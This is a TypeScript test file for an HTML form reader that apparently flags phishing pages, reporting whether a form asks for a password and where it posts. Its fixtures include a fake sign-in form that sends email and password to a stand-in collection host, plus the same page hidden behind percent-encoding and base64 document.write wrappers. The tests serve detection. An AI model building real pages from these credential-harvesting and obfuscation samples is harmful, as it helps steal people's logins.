import { expect, test } from 'vitest'
import { readForm } from './html-form.ts'

const page =
  '<h3>Sign in</h3><form action="https://collect.stranger.example/p.php" method="post"><input name="mail"><input type="password" name="p"></form>'

test('a page that wants a password says where it goes', () => {
  expect(readForm(page)).toEqual({ asksPassword: true, hosts: ['collect.stranger.example'] })
})

test('so does one that its script unpacks first', () => {
  const long = `${page}${' '.repeat(200)}`
  const percent = [...long].map((one) => `%${one.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')
  expect(readForm(`<script>document.write(unescape("${percent}"))</script>`)).toMatchObject({ asksPassword: true })
  const base64 = Buffer.from(long).toString('base64')
  expect(readForm(`<script>document.write(atob('${base64}'))</script>`)).toMatchObject({ asksPassword: true })
})

test('a page to read has no form, a page with a search field wants no password', () => {
  expect(readForm('<p>Factuur 2026-12</p><form action="https://a.example"><button>OK</button></form>')).toBeUndefined()
  expect(readForm('<form action="https://a.example/s"><input type="text"></form>')).toEqual({
    asksPassword: false,
    hosts: ['a.example'],
  })
})

test('a hostile page of a megabyte is read at once', () => {
  const started = performance.now()
  readForm(`<script>"${'%'.repeat(500_000)}${'<form '.repeat(50_000)}${'<input '.repeat(50_000)}`)
  expect(performance.now() - started).toBeLessThan(2_000)
})
